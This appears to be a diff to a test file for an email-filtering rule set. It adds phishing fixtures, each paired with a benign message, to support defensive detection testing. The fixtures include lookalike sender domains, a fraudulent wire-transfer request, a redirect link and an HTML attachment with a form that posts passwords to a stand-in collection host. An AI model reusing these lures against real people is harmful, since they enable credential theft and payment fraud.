@@ -25,8 +25,9 @@ def msg(body="Hello, see you at the meeting on Tuesday.\n", *, subject="Meeting 
     else:
         m.set_content(body)
         if html: m.add_alternative(html, subtype="html")
-    for name, data in attachments:
-        m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
+    for name, data, *ctype in attachments:
+        maintype, subtype = (ctype[0] if ctype else "application/octet-stream").split("/")
+        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
     return fixed(m)
 
 
@@ -78,6 +79,24 @@ CASES = {
  "PH_IDN_SENDER": (msg(frm="Bank <alert@xn--pypal-4ve.com>"), msg(frm="Bank <alert@bank.example>")),
  "PH_LINK_TEXT_MISMATCH": (msg(html='<p><a href="http://evil.example/x">www.mybank.com</a></p>'), msg(html='<p><a href="https://www.mybank.com/login">www.mybank.com</a></p>')),
  "PH_CLICK_URGENCY": (msg("Click here immediately to keep access.\n"), msg("Click here to see the photos from Saturday.\n")),
+ # phishing (issue 15); PH_LOOKALIKE_CONTACT and PH_NEW_SENDER_REQUEST are scored with the
+ # agent's correspondents = {partner.example} (tests/security/test_rules.py KNOWN)
+ "PH_BRAND_IN_CONTENT": (msg("Your Microsoft 365 password expires today. Keep the same password: https://m365-portal.example/keep\n", subject="Microsoft 365: password expiry", frm="IT Helpdesk <helpdesk@notice-center.example>"),
+                         msg("Your Microsoft 365 password expires today. Keep the same password: https://account.microsoft.com/security\n", subject="Microsoft 365: password expiry", frm="Microsoft <account-security-noreply@accountprotection.microsoft.com>")),
+ "PH_LOOKALIKE_BRAND": (msg(frm="PayPal Service <service@paypa1.com>"), msg(frm="Payroll <service@payroll.example>")),
+ "PH_LOOKALIKE_CONTACT": (msg(frm="Sam Lee <sam@partnr.example>"), msg(frm="Sam Lee <sam@partner.example>")),
+ "PH_NEW_SENDER_REQUEST": (msg("Our bank details changed: please send the invoice payment by wire transfer to the new account below.\n", frm="Dana <dana@new-vendor.example>"),
+                           msg("Our bank details changed: please send the invoice payment by wire transfer to the new account below.\n")),
+ "PH_CREDENTIAL_ATTACHMENT": (msg("Remittance advice attached.\n", attachments=[("Remittance_Advice.html", b'<html><body><form action="https://collect.example/p" method="post"><input name="email"><input type="password" name="pw"><button>View</button></form></body></html>', "text/html")]),
+                              msg("Agenda attached.\n", attachments=[("agenda.html", b'<html><body><h1>Agenda</h1><form action="https://partner.example/search"><input type="text" name="q"></form></body></html>', "text/html")])),
+ "PH_DATA_BLOB_URL": (msg(html='<p>Your invoice: <a href="data:application/octet-stream;base64,UEsDBBQAAAAIAA==">Download invoice</a></p>'),
+                      msg(html='<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"> Your invoice: <a href="https://partner.example/invoice/42">Download invoice</a></p>')),
+ "PH_REDIRECT_URL": (msg("Verify your account: https://www.google.com/url?q=https://login-check.example/x\n"),
+                     msg("Verify your account at https://www.google.com/search?q=account+help\n")),
+ "PH_QR_ONLY": (msg(html='<p>Scan to review your document</p><img src="cid:qr1" width="240" height="240">', html_only=True, attachments=[("qr.png", b"\x89PNG\r\n", "image/png")]),
+                msg(html='<p>Hi all, here is the photo from Saturday. The whole team made it to the top of the hill, and we had lunch at the cabin afterwards. Thanks to everyone who came along; next hike is in October.</p><img src="cid:p1" width="640">', html_only=True, attachments=[("hike.jpg", b"\xff\xd8", "image/jpeg")])),
+ "PH_REPLY_TO_ELSEWHERE": (msg(frm="Accounts <accounts@supplier.example>", reply_to="supplier.accounts@gmail.com"), msg(frm="Accounts <accounts@supplier.example>", reply_to="accounts@billing.example")),
+ "PH_BRAND_DMARC": (msg(frm="PayPal <service@paypal.com>", ar="mx.localhost; spf=fail; dkim=none; dmarc=fail"), msg(frm="PayPal <service@paypal.com>", ar="mx.localhost; spf=pass smtp.mailfrom=paypal.com; dkim=pass header.d=paypal.com; dmarc=pass")),
  "PH_MANY_LINKS_NO_UNSUB": (msg(links(6) + "\n"), msg(links(6) + "\n", headers={"List-Unsubscribe": "<mailto:u@partner.example>"})),
  "AUTH_SPF_FAIL": (msg(ar="mx.localhost; spf=fail; dkim=pass; dmarc=pass"), msg(ar="mx.localhost; spf=pass; dkim=pass; dmarc=pass")),
  "AUTH_SPF_SOFTFAIL": (msg(ar="mx.localhost; spf=softfail; dkim=pass; dmarc=pass"), msg(ar="mx.localhost; spf=neutral; dkim=pass; dmarc=pass")),
